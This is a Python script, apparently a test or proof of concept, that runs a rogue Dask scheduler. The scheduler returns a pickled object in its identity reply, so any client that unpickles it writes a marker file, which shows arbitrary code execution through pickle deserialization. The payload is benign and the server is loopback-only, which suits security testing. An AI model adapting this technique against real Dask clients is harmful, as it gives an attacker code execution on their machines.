"""A Dask scheduler that answers with a pickle which writes a file: ``python attacker.py ADDRESS_FILE MARK``."""

from __future__ import annotations

import asyncio
import sys
from pathlib import Path
from typing import Any

from distributed import Scheduler
from distributed.protocol import ToPickle


class Mark:
    """Writes a file where it is unpickled."""

    def __init__(self, place: Path) -> None:
        self.place = place

    def __reduce__(self) -> tuple[object, tuple[object, ...]]:
        return Path.write_text, (self.place, "an attacker's code was run")


class Attacker(Scheduler):
    """A scheduler whose description of itself is a pickle."""

    def identity(self, *arguments: Any, **options: Any) -> dict[str, Any]:
        """What a client asks for first."""
        return {**super().identity(*arguments, **options), "extra": ToPickle(Mark(Path(sys.argv[2])))}


async def serve() -> None:
    """Write the address, and answer until the process is ended."""
    async with Attacker(host="127.0.0.1", port=0, dashboard=False, dashboard_address="127.0.0.1:0") as attacker:
        partial = Path(f"{sys.argv[1]}.partial")
        partial.write_text(attacker.address)
        partial.rename(sys.argv[1])
        await attacker.finished()


if __name__ == "__main__":
    asyncio.run(serve())
